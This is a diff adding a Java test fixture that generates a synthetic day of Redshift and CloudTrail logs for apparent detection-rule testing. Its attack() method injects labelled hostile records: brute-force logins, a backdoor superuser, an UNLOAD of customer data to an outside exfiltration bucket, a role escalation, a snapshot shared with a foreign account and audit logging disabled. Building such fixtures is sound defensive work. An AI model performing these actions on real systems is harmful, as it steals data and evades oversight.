@@ -1,0 +1,391 @@
+package io.rsaudit.testkit.logs;
+
+import io.rsaudit.core.hunt.LogType;
+import java.io.BufferedWriter;
+import java.io.IOException;
+import java.io.OutputStreamWriter;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Instant;
+import java.time.ZoneOffset;
+import java.time.format.DateTimeFormatter;
+import java.util.ArrayList;
+import java.util.EnumMap;
+import java.util.List;
+import java.util.Locale;
+import java.util.Map;
+import java.util.SplittableRandom;
+
+/**
+ * One realistic, busy and benign day of one production cluster, with attacks injected that a precise hunt must find:
+ * 50 database users (ETL services loading all day, BI tools whose connections introspect the catalog, analysts and
+ * IAM-authenticated users in business hours, three admins from the bastion), IAM users created on their first login,
+ * a mistyped password now and then, COPY and UNLOAD with IAM roles to the company bucket, grants to groups, and
+ * CloudTrail reads and writes with real-shaped identities (access key ids, session context): describes, cluster
+ * credentials for IAM users, manual snapshots, a key rotation. Nothing in the benign part deserves an alert at
+ * medium or above under {@link #POLICY}; every record an attack adds is listed with the rule that must show it.
+ *
+ * <p>The records are written hour by hour, one file per log type and hour, under Redshift's and CloudTrail's S3 names
+ * (plain text).
+ */
+public final class BenignDay {
+
+    public static final String ACCOUNT = LogGenerator.ACCOUNT;
+    public static final String CLUSTER = "prod-dw";
+    public static final String BUCKET = LogGenerator.ALLOWED_BUCKET;
+    public static final Instant DAY = Instant.parse("2026-11-03T00:00:00Z");
+
+    /** The policy the day is benign under: the office network, the company bucket, the log bucket, the admins. */
+    public static final String POLICY = """
+            hunt:
+              allowedCidrs: [10.0.0.0/8]
+              allowedBuckets: [acme-data-lake]
+              auditLogBuckets: [acme-audit-logs]
+              adminUsers: [awsuser, admin, dba_jane]
+            """;
+
+    /** One injected record: the attack, its file and line, and the rule whose alert must show it as evidence. */
+    public record Attack(String name, String file, long line, String rule) {}
+
+    /** What was written: the folder, the record counts by type, and the attacks. */
+    public record Result(Path dir, Map<LogType, Long> records, List<Attack> attacks) {}
+
+    private static final DateTimeFormatter NAME_TIME =
+            DateTimeFormatter.ofPattern("yyyy-MM-dd'T'HH:mm", Locale.ROOT).withZone(ZoneOffset.UTC);
+    private static final DateTimeFormatter TRAIL_TIME =
+            DateTimeFormatter.ofPattern("yyyyMMdd'T'HHmm'Z'", Locale.ROOT).withZone(ZoneOffset.UTC);
+    private static final String[] TABLES = {"sales", "orders", "customers", "events", "inventory", "shipments"};
+    private static final String[] CATALOG_PROBES = {
+        "select * from pg_namespace order by nspname;",
+        "select table_schema, table_name from information_schema.tables where table_schema not in ('pg_catalog');",
+        "select * from svv_columns where table_schema = 'public';"
+    };
+
+    private final LogGenerator records = new LogGenerator(LogGenerator.Spec.of(1, false));
+    private final SplittableRandom random;
+    private final int activityPerHour;
+    private final List<String> etl = new ArrayList<>();
+    private final List<String> bi = new ArrayList<>();
+    private final List<String> analysts = new ArrayList<>();
+    private final List<String> iam = new ArrayList<>();
+    private final List<String> admins = List.of("awsuser", "admin", "dba_jane");
+
+    /** @param activityPerHour activity-log records per hour (the connection log gets about half as many) */
+    public BenignDay(long seed, int activityPerHour) {
+        this.random = new SplittableRandom(seed);
+        this.activityPerHour = activityPerHour;
+        for (int i = 1; i <= 8; i++) {
+            etl.add("etl_svc_" + i);
+        }
+        for (int i = 1; i <= 6; i++) {
+            bi.add(i % 2 == 0 ? "tableau_" + i : "looker_" + i);
+        }
+        for (int i = 1; i <= 27; i++) {
+            analysts.add("analyst_" + i);
+        }
+        for (int i = 1; i <= 6; i++) {
+            iam.add((i % 3 == 0 ? "IAMR:" : "IAM:") + "user" + i + "@acme.example");
+        }
+    }
+
+    public Result generate(Path out) throws IOException {
+        Map<LogType, Long> counts = new EnumMap<>(LogType.class);
+        List<Attack> attacks = new ArrayList<>();
+        for (int hour = 0; hour < 24; hour++) {
+            Instant at = DAY.plusSeconds(3600L * hour);
+            for (LogType type : LogType.values()) {
+                try (LogGenerator.LogFile f = open(out, type, at)) {
+                    if (type == LogType.CLOUDTRAIL) {
+                        f.raw("{\"Records\":[\n");
+                    }
+                    hour(f, type, hour, at.toEpochMilli(), attacks);
+                    if (type == LogType.CLOUDTRAIL) {
+                        f.raw("\n]}\n");
+                    }
+                    counts.merge(type, f.records, Long::sum);
+                }
+            }
+        }
+        return new Result(out, counts, List.copyOf(attacks));
+    }
+
+    private LogGenerator.LogFile open(Path out, LogType type, Instant at) throws IOException {
+        String day = "2026/11/03";
+        String rel = type == LogType.CLOUDTRAIL
+                ? "AWSLogs/" + ACCOUNT + "/CloudTrail/" + LogGenerator.REGION + "/" + day + "/" + ACCOUNT
+                        + "_CloudTrail_" + LogGenerator.REGION + "_" + TRAIL_TIME.format(at) + "_benign.json"
+                : "AWSLogs/" + ACCOUNT + "/redshift/" + LogGenerator.REGION + "/" + day + "/" + ACCOUNT + "_redshift_"
+                        + LogGenerator.REGION + "_" + CLUSTER + "_" + type.fileName() + "_" + NAME_TIME.format(at);
+        Path p = out.resolve(rel);
+        Files.createDirectories(p.getParent());
+        return new LogGenerator.LogFile(
+                rel,
+                new BufferedWriter(new OutputStreamWriter(Files.newOutputStream(p), StandardCharsets.UTF_8), 1 << 16));
+    }
+
+    private boolean business(int hour) {
+        return hour >= 8 && hour < 18;
+    }
+
+    private void hour(LogGenerator.LogFile f, LogType type, int hour, long start, List<Attack> attacks)
+            throws IOException {
+        int n = switch (type) {
+            case USER_ACTIVITY_LOG -> business(hour) ? activityPerHour : activityPerHour / 4;
+            case CONNECTION_LOG -> (business(hour) ? activityPerHour : activityPerHour / 4) / 2;
+            case CLOUDTRAIL -> business(hour) ? 120 : 30;
+            case USER_LOG -> hour >= 9 && hour < 15 ? 1 : 0;
+        };
+        long step = 3_600_000L / (n + 2);
+        long t = start;
+        for (int i = 0; i < n; i++) {
+            t += step;
+            benign(f, type, hour, t, i);
+        }
+        attack(f, type, hour, start + 1_800_000L, attacks);
+    }
+
+    private <T> T pick(List<T> list) {
+        return list.get(random.nextInt(list.size()));
+    }
+
+    private String officeHost() {
+        return "10." + (1 + random.nextInt(3)) + "." + random.nextInt(8) + "." + (10 + random.nextInt(200));
+    }
+
+    private void benign(LogGenerator.LogFile f, LogType type, int hour, long t, int i) throws IOException {
+        switch (type) {
+            case CONNECTION_LOG -> {
+                int r = random.nextInt(100);
+                String user;
+                String host;
+                String app;
+                if (r < 40) {
+                    user = pick(etl);
+                    host = "10.2.0." + (10 + Math.abs(user.hashCode() % 8));
+                    app = "airflow-redshift-operator";
+                } else if (r < 60) {
+                    user = pick(bi);
+                    host = "10.3.1." + (20 + Math.abs(user.hashCode() % 6));
+                    app = user.startsWith("tableau") ? "Tableau Server" : "Looker";
+                } else if (r < 85 || !business(hour)) {
+                    user = business(hour) ? pick(analysts) : pick(etl);
+                    host = business(hour) ? officeHost() : "10.2.0.11";
+                    app = business(hour) ? "DBeaver 24.1" : "airflow-redshift-operator";
+                } else if (r < 95) {
+                    user = pick(iam);
+                    host = officeHost();
+                    app = "Redshift Query Editor v2";
+                } else {
+                    int a = random.nextInt(admins.size());
+                    user = admins.get(a);
+                    host = LogGenerator.ADMIN_HOST;
+                    app = "psql";
+                }
+                // now and then someone mistypes a password once, then gets it right
+                if (business(hour) && random.nextInt(400) == 0 && !admins.contains(user)) {
+                    records.connection(f, "authentication failure", t - 2000, host, user, true, app, 0);
+                }
+                String event = random.nextInt(3) == 0 ? "disconnecting session" : "authenticated";
+                records.connection(f, event, t, host, user, true, app, event.startsWith("disc") ? 4_000_000L : 0);
+            }
+            case USER_ACTIVITY_LOG -> {
+                int r = random.nextInt(100);
+                String table = TABLES[random.nextInt(TABLES.length)];
+                String user;
+                String sql;
+                if (r < 30) {
+                    user = pick(etl);
+                    sql = switch (r % 3) {
+                        case 0 ->
+                            "copy staging." + table + " from 's3://" + BUCKET + "/in/" + table + "/" + hour
+                                    + "/' iam_role 'arn:aws:iam::" + ACCOUNT
+                                    + ":role/RedshiftLoad' format as parquet;";
+                        case 1 ->
+                            "insert into " + table + "\n  select *\n  from staging." + table + "\n  where load_id = "
+                                    + random.nextInt(1_000_000) + ";";
+                        default -> "truncate staging." + table + ";";
+                    };
+                } else if (r < 50) {
+                    user = pick(bi);
+                    // BI tools introspect the catalog when they connect
+                    sql = r % 4 == 0
+                            ? CATALOG_PROBES[random.nextInt(CATALOG_PROBES.length)]
+                            : "select region, date_trunc('day', created_at), sum(amount) from " + table
+                                    + " group by 1, 2 order by 2 desc limit 500;";
+                } else if (r < 95) {
+                    user = business(hour) ? pick(r < 88 ? analysts : iam) : pick(etl);
+                    sql = "select * from " + table + " where created_at >= dateadd(day, -" + (1 + r % 30)
+                            + ", current_date) limit " + (100 + r) + ";";
+                } else {
+                    user = admins.get(random.nextInt(admins.size()));
+                    sql = switch (r) {
+                        case 95 -> "grant select on all tables in schema reporting to group analysts;";
+                        case 96 -> "vacuum delete only " + table + ";";
+                        case 97 -> "analyze " + table + ";";
+                        case 98 ->
+                            "unload ('select * from " + table + " where day = current_date - 1') to 's3://" + BUCKET
+                                    + "/exports/" + table + "_' iam_role 'arn:aws:iam::" + ACCOUNT
+                                    + ":role/RedshiftUnload' parquet;";
+                        default -> "select * from stv_sessions;";
+                    };
+                }
+                records.activity(f, t, user, sql);
+            }
+            case USER_LOG -> {
+                // an IAM user's first login creates its database user
+                String user = iam.get(Math.min(hour - 9, iam.size() - 1));
+                records.userlog(f, t, user, "", "create", 0, 0);
+            }
+            case CLOUDTRAIL -> {
+                int r = random.nextInt(100);
+                String arn = "arn:aws:iam::" + ACCOUNT + ":role/" + (r < 50 ? "ops-readonly" : "data-platform");
+                String ip = "10.1.0." + (10 + random.nextInt(20));
+                String cluster = "\"clusterIdentifier\":\"" + CLUSTER + "\"";
+                if (r < 50) {
+                    String[] reads = {
+                        "DescribeClusters", "DescribeLoggingStatus", "DescribeClusterSnapshots", "DescribeEvents"
+                    };
+                    records.trail(f, t, "redshift.amazonaws.com", reads[r % reads.length], arn, ip, cluster, null);
+                } else if (r < 80) {
+                    String user = iam.get(random.nextInt(iam.size()));
+                    records.trail(
+                            f,
+                            t,
+                            "redshift.amazonaws.com",
+                            "GetClusterCredentials",
+                            "arn:aws:iam::" + ACCOUNT + ":role/analyst-sso",
+                            officeHost(),
+                            cluster + ",\"dbUser\":\"" + user.substring(user.indexOf(':') + 1)
+                                    + "\",\"autoCreate\":true,\"durationSeconds\":3600",
+                            null);
+                } else if (r < 90) {
+                    records.trail(
+                            f,
+                            t,
+                            "redshift-data.amazonaws.com",
+                            "ExecuteStatement",
+                            arn,
+                            ip,
+                            cluster + ",\"database\":\"dev\",\"sql\":\"select count(*) from sales\"",
+                            null);
+                } else if (r < 98 || i % 7 != 0) {
+                    records.trail(
+                            f,
+                            t,
+                            "redshift.amazonaws.com",
+                            "CreateClusterSnapshot",
+                            arn,
+                            ip,
+                            cluster + ",\"snapshotIdentifier\":\"manual-" + t + "\"",
+                            null);
+                } else {
+                    records.trail(f, t, "redshift.amazonaws.com", "RotateEncryptionKey", arn, ip, cluster, null);
+                }
+            }
+        }
+    }
+
+    /** The attacks of one hour and type, written from {@code t} (half past the hour); each listed with its rule. */
+    private void attack(LogGenerator.LogFile f, LogType type, int hour, long t, List<Attack> attacks)
+            throws IOException {
+        switch (type) {
+            case CONNECTION_LOG -> {
+                if (hour >= 1 && hour <= 6) {
+                    // slow brute force: 9 an hour from one address, 54 over six hours (below the burst and hourly
+                    // tiers, above the daily one)
+                    for (int k = 0; k < 9; k++) {
+                        long at = t + k * 380_000L;
+                        attacks.add(new Attack("slow brute force", f.path, f.nextLine(), "RSH-AUTH-008"));
+                        records.connection(f, "authentication failure", at, "203.0.113.77", "awsuser", true, "psql", 0);
+                    }
+                }
+                if (hour == 4) {
+                    // distributed: one user, twelve addresses, one failure each
+                    for (int k = 0; k < 12; k++) {
+                        attacks.add(new Attack("distributed brute force", f.path, f.nextLine(), "RSH-AUTH-009"));
+                        records.connection(
+                                f,
+                                "authentication failure",
+                                t + k * 90_000L,
+                                "198.51.100." + (20 + k),
+                                "admin",
+                                true,
+                                "psql",
+                                0);
+                    }
+                }
+                if (hour == 20) {
+                    // a burst of guesses that worked
+                    for (int k = 0; k < 12; k++) {
+                        attacks.add(new Attack("brute force", f.path, f.nextLine(), "RSH-AUTH-001"));
+                        records.connection(
+                                f,
+                                "authentication failure",
+                                t + k * 5_000L,
+                                "185.220.101.9",
+                                "etl_svc_3",
+                                true,
+                                "x",
+                                0);
+                    }
+                    attacks.add(new Attack("brute force success", f.path, f.nextLine(), "RSH-AUTH-003"));
+                    records.connection(f, "authenticated", t + 70_000L, "185.220.101.9", "etl_svc_3", true, "x", 0);
+                }
+            }
+            case USER_ACTIVITY_LOG -> {
+                if (hour == 21) {
+                    attacks.add(new Attack("backdoor superuser", f.path, f.nextLine(), "RSH-PRIV-001"));
+                    records.activity(f, t, "etl_svc_3", "create user svc_backup password '***' createuser;");
+                    attacks.add(new Attack("exfiltration", f.path, f.nextLine(), "RSH-EXFIL-001"));
+                    records.activity(
+                            f,
+                            t + 60_000,
+                            "etl_svc_3",
+                            "unload ('select * from customers') to 's3://exfil-drop-991/c_' iam_role"
+                                    + " 'arn:aws:iam::" + ACCOUNT + ":role/RedshiftUnload';");
+                    attacks.add(new Attack("role escalation", f.path, f.nextLine(), "RSH-PRIV-005"));
+                    records.activity(f, t + 90_000, "svc_backup", "grant role sys:dba to etl_svc_3;");
+                    attacks.add(new Attack("default privileges to public", f.path, f.nextLine(), "RSH-PRIV-004"));
+                    records.activity(
+                            f,
+                            t + 100_000,
+                            "svc_backup",
+                            "alter default privileges in schema finance grant select on tables to public;");
+                }
+            }
+            case USER_LOG -> {
+                if (hour == 21) {
+                    attacks.add(new Attack("backdoor superuser", f.path, f.nextLine(), "RSH-PRIV-001"));
+                    records.userlog(f, t, "svc_backup", "", "create", 0, 1);
+                }
+            }
+            case CLOUDTRAIL -> {
+                String mallory = "arn:aws:iam::" + ACCOUNT + ":user/mallory";
+                if (hour == 22) {
+                    records.trail(
+                            f,
+                            t,
+                            "redshift.amazonaws.com",
+                            "AuthorizeSnapshotAccess",
+                            mallory,
+                            "185.220.101.9",
+                            "\"snapshotIdentifier\":\"manual-1\",\"accountWithRestoreAccess\":\""
+                                    + LogGenerator.FOREIGN_ACCOUNT + "\"",
+                            null);
+                    attacks.add(new Attack("snapshot shared", f.path, f.line + 1, "RSH-CT-004"));
+                    records.trail(
+                            f,
+                            t + 60_000,
+                            "redshift.amazonaws.com",
+                            "DisableLogging",
+                            mallory,
+                            "185.220.101.9",
+                            "\"clusterIdentifier\":\"" + CLUSTER + "\"",
+                            null);
+                    attacks.add(new Attack("audit logging disabled", f.path, f.line + 1, "RSH-CT-001"));
+                }
+            }
+        }
+    }
+}
